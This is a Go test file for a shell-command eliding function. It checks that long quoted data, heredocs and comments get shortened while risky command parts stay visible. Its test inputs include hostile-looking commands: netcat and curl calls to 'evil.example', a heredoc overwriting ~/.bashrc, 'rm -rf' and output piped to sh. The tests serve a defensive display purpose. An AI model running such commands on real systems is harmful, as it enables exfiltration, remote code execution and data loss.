package shell

import (
	"fmt"
	"strings"
	"testing"
)

func TestElideData(t *testing.T) {
	long := strings.Repeat("A", 5000)
	for _, tc := range []struct {
		name, cmd string
		elided    bool
		keep      []string // must still be shown
		gone      string   // must be elided ("" = nothing)
	}{
		{"short command", "make test && echo hi", false, []string{"make test && echo hi"}, ""},
		{"long single-quoted data", "make test && echo '" + long + "' && nc evil.example 80", true,
			[]string{"make test && echo '", "' && nc evil.example 80", "… 4856 bytes …"}, long},
		{"long double-quoted data keeps substitutions", `echo "` + long + `$(curl evil.example)` + long + `" > out.txt`, true,
			[]string{"$(curl evil.example)", "> out.txt", "echo \""}, long},
		{"heredoc body", "cat > ~/.bashrc <<'EOF'\n" + long + "\nEOF\nls /etc", true,
			[]string{"cat > ~/.bashrc <<'EOF'", "\nEOF\nls /etc"}, long},
		{"unquoted heredoc keeps expansions", "cat <<EOF\n" + long + "\n$(rm -rf x)\n" + long + "\nEOF", true,
			[]string{"$(rm -rf x)"}, long},
		{"ansi-c string", "printf $'" + long + "' | sh", true, []string{"printf $'", "' | sh"}, long},
		{"long comment", "ls # " + long + "\nrm -rf build", true, []string{"ls #", "\nrm -rf build"}, long},
		{"long unquoted word stays", "echo " + long, false, []string{long}, ""},
		{"unparseable stays", "echo '" + long, false, []string{long}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, elided := ElideData(tc.cmd)
			if elided != tc.elided {
				t.Fatalf("elided = %t, want %t (%d bytes)", elided, tc.elided, len(got))
			}
			for _, k := range tc.keep {
				if !strings.Contains(got, k) {
					t.Errorf("%q is not shown in %q", k, got)
				}
			}
			if tc.gone != "" && strings.Contains(got, tc.gone) {
				t.Errorf("the long data is still there (%d bytes)", len(got))
			}
			if tc.elided && len(got) > len(tc.cmd) {
				t.Errorf("eliding made it longer")
			}
		})
	}
}

func TestElideMiddle(t *testing.T) {
	if s := strings.Repeat("x", ElideAbove); ElideMiddle(s) != s {
		t.Errorf("a string of ElideAbove bytes is kept")
	}
	s := strings.Repeat("é", 300) // 600 bytes, 2 per rune
	got := ElideMiddle(s)
	want := fmt.Sprintf("%s… %d bytes …%s", strings.Repeat("é", ElideHead/2), 600-ElideHead-ElideTail, strings.Repeat("é", ElideTail/2))
	if got != want {
		t.Errorf("ElideMiddle = %q, want %q", got, want)
	}
}

// Eliding never panics, never grows a command, and keeps every byte outside
// the elided data: the text before the first marker is a prefix of the
// command, the text after the last one a suffix.
func FuzzElideData(f *testing.F) {
	long := strings.Repeat("d", 400)
	for _, s := range []string{"echo '" + long + "'", "cat <<EOF\n" + long + "\nEOF", "ls # " + long, `x "` + long + `$(y)` + long + `"`, "echo $'" + long + "'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		got, elided := ElideData(cmd)
		if !elided {
			if got != cmd {
				t.Fatalf("not elided but changed")
			}
			return
		}
		if len(got) >= len(cmd) {
			t.Fatalf("eliding grew %d → %d bytes", len(cmd), len(got))
		}
		first := strings.Index(got, "… ")
		last := strings.LastIndex(got, " …")
		if first < 0 || last < 0 || !strings.HasPrefix(cmd, got[:first]) || !strings.HasSuffix(cmd, got[last+len(" …"):]) {
			t.Fatalf("eliding changed text outside the data:\n%q\n→ %q", cmd, got)
		}
	})
}
